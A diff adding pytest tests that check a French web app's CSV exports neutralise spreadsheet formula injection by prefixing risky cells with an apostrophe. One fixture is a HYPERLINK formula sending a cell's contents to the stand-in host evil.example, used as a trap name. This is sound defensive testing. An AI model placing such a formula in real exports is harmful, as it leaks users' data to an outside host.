@@ -1,0 +1,59 @@
+"""Every CSV export: one writer, for Excel in French, where no cell typed by a person runs."""
+
+import csv
+import io
+
+import pytest
+
+from tests.factories import attach, make_legal_rep, make_organisation, make_person
+from webapp.models import PlatformRole
+from webapp.spreadsheets import excel_safe
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2;"clic")'
+
+
+def read_csv(response) -> list[list[str]]:
+    """The file as a spreadsheet reads it: UTF-8 with its BOM, `;` between cells."""
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    raw = response.get_data()
+    assert raw.startswith("\ufeff".encode())
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+33 6 12", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
+def test_a_cell_that_starts_like_a_formula_stays_text(cell):
+    assert excel_safe(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["Martin", "", "O'Neil", " =pas au début", 42, None])
+def test_other_cells_are_kept(cell):
+    assert excel_safe(cell) == cell
+
+
+def test_the_roster_export_neutralises_formulas(client, auth):
+    """Does a last name written as a formula come out of the RL's export as text?"""
+    organisation = make_organisation(establishments=1)
+    rl = make_legal_rep(organisation)
+    attach(make_person("piege@exemple.fr", first_name="@SUM(A1)", last_name=FORMULA),
+           organisation)
+    auth.login(rl.email)
+    rows = read_csv(client.get(f"/structures/{organisation.id}/personnes.csv"))
+    assert rows[0][:3] == ["Nom", "Prénom", "Adresse e-mail"]
+    trap = next(row for row in rows if row[2] == "piege@exemple.fr")
+    assert trap[:2] == ["'" + FORMULA, "'@SUM(A1)"]
+
+
+def test_the_region_exports_neutralise_formulas(client, auth):
+    """Do a structure's and an RL's names written as formulas come out of the region's CSV as
+    text, and the départements' CSV have the same format?"""
+    organisation = make_organisation(name="=1+1", establishments=1)
+    make_legal_rep(organisation, first_name="+Rémi", last_name="-Alpha")
+    trainer = make_person("formateur@exemple.fr", role=PlatformRole.TRAINER, region_code="84")
+    auth.login(trainer.email)
+    rows = read_csv(client.get("/region/structures.csv"))
+    line = next(row for row in rows if row[1] == organisation.finess)
+    assert line[0] == "'=1+1"
+    assert any(cell.startswith("'+Rémi -Alpha") for cell in line)
+    departements = read_csv(client.get("/region/departements.csv"))
+    assert departements[0][:2] == ["Code", "Département"]
+    assert ["69", "Rhône"] in [row[:2] for row in departements]
